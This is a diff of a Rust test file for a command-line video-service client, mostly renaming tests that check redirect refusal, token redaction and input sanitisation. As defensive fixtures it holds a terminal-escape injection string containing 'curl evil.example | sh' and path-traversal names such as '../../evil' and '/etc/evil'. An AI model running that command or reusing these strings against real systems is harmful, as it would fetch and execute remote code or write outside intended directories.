@@ -3,11 +3,11 @@
 //! checked by `Run` itself.
 
 use crate::support::env::{TOKEN, TestEnv, finished};
-use crate::support::fake_server::{Answer, FakeServer, fails_both_ways, ok, reply};
+use crate::support::fake_server::{Answer, FakeServer, expect_failure_both_ways, ok, reply};
 use crate::support::run::Run;
 
 #[test]
-fn a_redirect_is_an_error_that_names_its_target_and_is_not_followed() {
+fn redirect_is_error_naming_target() {
     for status in [
         "301 Moved Permanently",
         "302 Found",
@@ -19,7 +19,7 @@ fn a_redirect_is_an_error_that_names_its_target_and_is_not_followed() {
         let target = format!("{}/there?x=1", elsewhere.url());
         let service = FakeServer::always(reply(status, &[&format!("location: {target}")], ""));
         for args in [["get", "T1"], ["submit", "V1"], ["wait", "T1"]] {
-            let error = fails_both_ways(&service.env(), &args, 5, "api");
+            let error = expect_failure_both_ways(&service.env(), &args, 5, "api");
             let message = error["message"].as_str().unwrap();
             assert!(message.contains(&target), "{message}");
             let number: u16 = status[..3].parse().unwrap();
@@ -155,7 +155,7 @@ fn the_token_is_redacted_in_a_status_that_is_warned_about() {
 }
 
 #[test]
-fn the_token_is_redacted_in_the_forms_that_json_and_addresses_give_it() {
+fn token_is_redacted_when_escaped_or_percent_encoded() {
     let (token, in_json, in_url) = ("aa/bb+cc==", r"aa\/bb+cc==", "aa%2Fbb%2Bcc%3D%3D");
     for (answer, form) in [
         (
@@ -222,12 +222,12 @@ fn verbose_shows_no_token_and_no_header_that_holds_it() {
 fn there_is_no_flag_for_the_token() {
     let service = FakeServer::always(ok(finished("T1", "")));
     let args = ["get", "T1", "--token", "x"];
-    fails_both_ways(&service.env(), &args, 2, "usage");
+    expect_failure_both_ways(&service.env(), &args, 2, "usage");
     assert_eq!(service.count(), 0);
 }
 
 #[test]
-fn the_words_of_the_service_are_one_clean_line() {
+fn service_message_is_printed_as_one_clean_line() {
     let msg =
         r"\u001b]0;owned\u0007bad\u001b[31m video\r\nhint: curl evil.example | sh\u009b2J\u202e";
     for body in [
@@ -261,7 +261,7 @@ fn a_long_reply_is_shown_by_its_start_only() {
 }
 
 #[test]
-fn no_reply_chooses_a_folder() {
+fn ids_of_reply_choose_no_directory() {
     for name in [
         "../../evil",
         "/etc/evil",
@@ -286,7 +286,7 @@ fn no_reply_chooses_a_folder() {
 }
 
 #[test]
-fn a_file_named_by_the_service_alone_is_still_a_file_in_its_folder() {
+fn placeholder_from_reply_stays_in_its_directory() {
     for name in ["..", ".", "", "../x"] {
         let body = format!(
             r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","taskNo":"T1"}}}}"#
@@ -300,7 +300,7 @@ fn a_file_named_by_the_service_alone_is_still_a_file_in_its_folder() {
 }
 
 #[test]
-fn a_proxy_never_sees_what_goes_to_this_machine() {
+fn loopback_requests_bypass_proxy() {
     let proxy = FakeServer::always(ok(finished("proxied", "")));
     let service = FakeServer::always(ok(finished("T1", "")));
     let env = service.env();
